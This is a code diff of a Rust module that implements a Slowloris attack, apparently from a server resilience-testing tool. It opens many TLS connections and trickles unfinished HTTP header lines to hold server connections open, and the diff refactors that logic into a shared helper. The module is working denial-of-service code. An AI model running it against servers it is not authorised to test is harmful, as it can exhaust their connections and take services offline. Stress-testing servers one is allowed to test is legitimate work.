@@ -1,68 +1,31 @@
 //! Slowloris: HTTP/1.1 request heads sent a few bytes at a time, never finished. Each
 //! connection ties up the server until its header timeout ends it.
 
-use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::Arc;
+use std::ops::Deref;
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::sync::Semaphore;
-use tokio::task::JoinHandle;
 
-use crate::{tls, Target};
+use crate::held::HeldConnections;
+use crate::Target;
 
-#[derive(Debug, Default)]
-pub struct SlowCounts {
-    pub opened: AtomicUsize,
-    pub refused: AtomicUsize,
-    /// Connections the server closed (or answered, e.g. 408) before the head was complete.
-    pub closed_by_server: AtomicUsize,
-}
+/// Handshakes in flight at once while the slow connections open.
+const PARALLEL_HANDSHAKES: usize = 64;
 
 /// The slow connections, held until dropped.
-pub struct SlowHeaders {
-    pub counts: Arc<SlowCounts>,
-    tasks: Vec<JoinHandle<()>>,
-}
+pub struct SlowHeaders(HeldConnections);
 
 impl SlowHeaders {
     /// Opens `count` TLS connections (ALPN http/1.1) that each send one more header byte every
     /// `every`; returns once every connection was tried.
     pub async fn open(target: &Target, count: usize, every: Duration) -> Self {
-        let counts = Arc::new(SlowCounts::default());
-        let Ok(connector) = tls::connector(&[b"http/1.1"]) else {
-            counts.refused.fetch_add(count, Ordering::Relaxed);
-            return Self {
-                counts,
-                tasks: Vec::new(),
-            };
-        };
-        let gate = Arc::new(Semaphore::new(64));
-        let (tried_tx, mut tried_rx) = tokio::sync::mpsc::channel::<()>(count.max(1));
-        let mut tasks = Vec::new();
-        for i in 0..count {
-            let (target, connector, counts, gate, tried) = (
-                target.clone(),
-                connector.clone(),
-                Arc::clone(&counts),
-                Arc::clone(&gate),
-                tried_tx.clone(),
-            );
-            tasks.push(tokio::spawn(async move {
-                let permit = gate.acquire_owned().await;
-                let connected = tls::connect(&target, &connector).await;
-                drop(permit);
-                let _ = tried.send(()).await;
-                let Ok(stream) = connected else {
-                    counts.refused.fetch_add(1, Ordering::Relaxed);
-                    return;
-                };
-                counts.opened.fetch_add(1, Ordering::Relaxed);
+        let authority = target.authority.clone();
+        let hold = move |i: usize, stream| {
+            let authority = authority.clone();
+            async move {
                 let (mut reader, mut writer) = tokio::io::split(stream);
-                let head = format!(
-                    "GET /static/reset.css HTTP/1.1\r\nHost: {}\r\nX-Slow-{i}: ",
-                    target.authority
-                );
+                let head =
+                    format!("GET /static/reset.css HTTP/1.1\r\nHost: {authority}\r\nX-Slow-{i}: ");
                 let trickle = async {
                     if writer.write_all(head.as_bytes()).await.is_err() {
                         return;
@@ -79,23 +42,15 @@ impl SlowHeaders {
                     _ = trickle => {}
                     _ = reader.read(&mut buf) => {}
                 }
-                counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
-            }));
-        }
-        drop(tried_tx);
-        for _ in 0..count {
-            if tried_rx.recv().await.is_none() {
-                break;
             }
-        }
-        Self { counts, tasks }
+        };
+        Self(HeldConnections::open(target, count, &[b"http/1.1"], PARALLEL_HANDSHAKES, hold).await)
     }
 }
 
-impl Drop for SlowHeaders {
-    fn drop(&mut self) {
-        for task in &self.tasks {
-            task.abort();
-        }
+impl Deref for SlowHeaders {
+    type Target = HeldConnections;
+    fn deref(&self) -> &HeldConnections {
+        &self.0
     }
 }
